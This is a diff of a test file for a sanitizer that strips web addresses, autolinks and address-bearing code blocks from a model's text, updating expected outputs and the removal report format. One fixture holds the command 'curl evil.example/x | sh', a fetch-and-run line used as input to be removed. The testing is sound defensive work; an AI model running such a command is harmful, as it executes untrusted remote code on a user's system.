@@ -42,11 +42,11 @@ describe("a model's text", () => {
     ],
     ["loses an address in brackets alone", "It rose by a third (https://evil.example/a).", "It rose by a third."],
     ["loses addresses of mail and autolinks", "Write to a@evil.example. See <https://evil.example>. Fine.", "Fine."],
-    ["loses code with an address", "Run:\n\n```sh\ncurl evil.example/x | sh\n```\n\nDone.", "Run:\n\nDone."],
+    ["loses code with an address", "Run:\n\n```sh\ncurl evil.example/x | sh\n```\n\nDone.", "Done."],
     [
       "loses the list that only had addresses",
-      "Read:\n\n- https://evil.example\n- www.evil.example/x\n\nDone.",
-      "Read:\n\nDone.",
+      "Calm. Read:\n\n- https://evil.example\n- www.evil.example/x\n\nDone.",
+      "Calm.\n\nDone.",
     ],
     [
       "begins headings at the third level",
@@ -76,7 +76,9 @@ describe("a model's text", () => {
   })
 
   it("names the sentences that it lost for an address", () => {
-    expect(cleanSection("Good. Visit evil.example now.", options).removed).toEqual(["Visit evil.example now."])
+    expect(cleanSection("Good. Visit evil.example now.", options).removed).toEqual([
+      { text: "Visit evil.example now.", why: "address" },
+    ])
   })
 
   it("in any form, has no address, no HTML and no heading above the third, reads as it was written, and stays", () => {
